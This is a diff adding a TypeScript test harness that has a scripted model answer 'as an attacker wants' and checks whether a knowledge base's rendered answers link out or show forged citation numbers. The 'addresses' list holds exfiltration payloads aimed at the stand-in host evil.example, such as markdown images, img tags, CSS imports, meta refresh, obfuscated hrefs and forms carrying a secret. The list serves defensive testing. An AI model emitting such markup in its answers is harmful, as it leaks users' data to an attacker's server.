@@ -1,0 +1,86 @@
+import MarkdownIt from "markdown-it";
+import { openKnowledgeBase } from "../../src/index.node.ts";
+import { createRandom } from "../../src/testing/random.ts";
+import { createScriptedChatModel } from "../../src/testing/scripted-chat-model.ts";
+import { scaled, type Tally } from "./tally.ts";
+
+const known = "https://known.example/keys";
+const evil = "evil.example";
+const evidence = `Keys are rotated every 90 days, says ${known}.`;
+
+/** Ways to lead a reader, or a page that shows the answer, to an address of the model's own. */
+const addresses = [
+  `![x](https://${evil}/SECRET)`,
+  `[x](https://${evil}/SECRET)`,
+  `<https://${evil}/SECRET>`,
+  `<mailto:a@${evil}?body=SECRET>`,
+  `_www.${evil}/SECRET_`,
+  `www.${evil}/SECRET`,
+  `${known}/((SECRET))`,
+  `${known}，SECRET`,
+  `[x][y]\n\n[y]: https://${evil}/SECRET`,
+  `<img src="https://${evil}/SECRET">`,
+  `<style>@import url(https://${evil}/SECRET)</style>`,
+  `<meta http-equiv=refresh content="0;url=https://${evil}/SECRET">`,
+  `<a href="&#104;ttps://${evil}/SECRET">x</a>`,
+  `<form action="https://${evil}/SECRET"><button>x</button></form>`,
+] as const;
+/** Ways to show a number in brackets that nothing checked. */
+const markers = ["[9]", "\\[9\\]", "&#91;9&#93;", "&lbrack;9]", "[&#57;]", "[**9**]", "[<b>9</b>]", "【9】"] as const;
+const wrappers = ["X", "> X", "- X", "**X**", "| a |\n|---|\n| X |", "# X", "text X text.", "X [1]"] as const;
+
+const plain = new MarkdownIt({ html: true, linkify: true });
+
+/** Whatever the rendered page would load or lead to. */
+function leadsIn(html: string): readonly string[] {
+  const attributes = html.matchAll(
+    /(?:href|src|srcset|action|formaction|ping|content|style|data)\s*=\s*["']?([^"'>]+)/giu,
+  );
+  return [
+    ...Array.from(attributes, (match) => decode(match[1]!)).filter((target) => decodeURI(target) !== known),
+    ...(html.match(/<style|<meta|@import/giu) ?? []),
+  ];
+}
+
+const decode = (text: string): string =>
+  text
+    .replace(/&#(\d+);/gu, (_, code: string) => String.fromCodePoint(Number(code)))
+    .replace(/&#x([0-9a-f]+);/giu, (_, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
+    .replaceAll("&lbrack;", "[")
+    .replaceAll("&rbrack;", "]")
+    .replaceAll("&amp;", "&");
+
+/** Numbers in brackets, as a reader of the rendered page sees them. */
+function numbersIn(html: string): readonly string[] {
+  const seen = decode(html.replace(/<code>[^]*?<\/code>|<pre>[^]*?<\/pre>/gu, "").replace(/<[^>]*>/gu, ""));
+  return Array.from(seen.matchAll(/[[【]\s*(\d+)\s*[\]】]/gu), (match) => `[${match[1]!}]`);
+}
+
+/** A model that answers as an attacker wants; the answer is rendered, and its page is looked at. */
+export async function attackAnswers(seed: number, size: number): Promise<readonly Tally[]> {
+  const random = createRandom(seed);
+  let reply = "";
+  const kb = await openKnowledgeBase({ models: { chat: createScriptedChatModel(() => reply) } });
+  await kb.ingest({ uri: "keys.md", text: evidence });
+  const attempts = scaled(10_000, size);
+  const led: string[] = [];
+  const numbered: string[] = [];
+  try {
+    for (let attempt = 0; attempt < attempts; attempt++) {
+      const form = random.pick([...addresses, ...markers]);
+      reply = random.pick(wrappers).replace("X", () => form.replace("SECRET", `secret${random.below(1000)}`));
+      const { text, citations } = await kb.ask("How often are keys rotated?");
+      const html = plain.render(text);
+      const checked = new Set(citations.map(({ marker }) => marker));
+      for (const lead of leadsIn(html)) led.push(`${JSON.stringify(reply)} leads to ${lead}`);
+      for (const number of numbersIn(html))
+        if (!checked.has(number)) numbered.push(`${JSON.stringify(reply)} shows ${number}`);
+    }
+  } finally {
+    await kb.close();
+  }
+  return [
+    { promise: "An answer leads only to addresses of its evidence", unit: "answers", attempts, breaches: led },
+    { promise: "A number in brackets is a checked citation", unit: "answers", attempts, breaches: numbered },
+  ];
+}
